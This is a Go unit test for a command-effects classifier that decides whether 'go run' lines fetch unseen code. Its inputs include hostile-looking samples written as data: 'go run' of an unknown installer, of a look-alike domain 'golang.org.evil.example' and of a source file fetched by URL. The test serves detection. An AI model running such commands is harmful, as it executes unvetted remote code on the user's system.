package effect

import "testing"

// TestKnownGoRun checks that go run of a module knownpackages.txt lists,
// at any version or with -mod=mod, fetches no unseen code, as its go
// install does not; an unknown module, a look-alike domain, a URL and a
// source file fetched by URL still do.
func TestKnownGoRun(t *testing.T) {
	for line, want := range map[string]bool{
		"go run golang.org/x/tools/cmd/stringer@latest -type=Color":                  false,
		"go run golang.org/x/vuln/cmd/govulncheck@latest ./...":                      false,
		"go run -mod=mod entgo.io/ent/cmd/ent generate ./ent/schema":                 false,
		"go run github.com/golangci/golangci-lint/cmd/golangci-lint@latest run":      false,
		"go run github.com/someone/installer@latest":                                 true,
		"go run -mod=mod github.com/someone/installer":                               true,
		"go run golang.org.evil.example/x/tools@latest":                              true,
		"go run https://example.net/x.go":                                            true,
		"go run github.com/golangci/golangci-lint-fork/cmd/golangci-lint@latest run": true,
	} {
		effs := effectsOf(line)
		if got := hasEffect(effs, "remote-code:package") || hasEffect(effs, "unknown:package") || hasEffect(effs, "unknown:code"); got != want {
			t.Errorf("%q: code fetched = %v, want %v (%v)", line, got, want, effs)
		}
	}
	for w, want := range map[string]bool{
		"golang.org/x/tools/cmd/stringer@latest": true,
		"entgo.io/ent/cmd/ent":                   true,
		"golang.org/x":                           false,
		"main.go":                                false,
		"./cmd/server":                           false,
		"fmt":                                    false,
		"https://golang.org/x/tools":             false,
	} {
		if got := knownGoModule(w); got != want {
			t.Errorf("knownGoModule(%q) = %v, want %v", w, got, want)
		}
	}
}
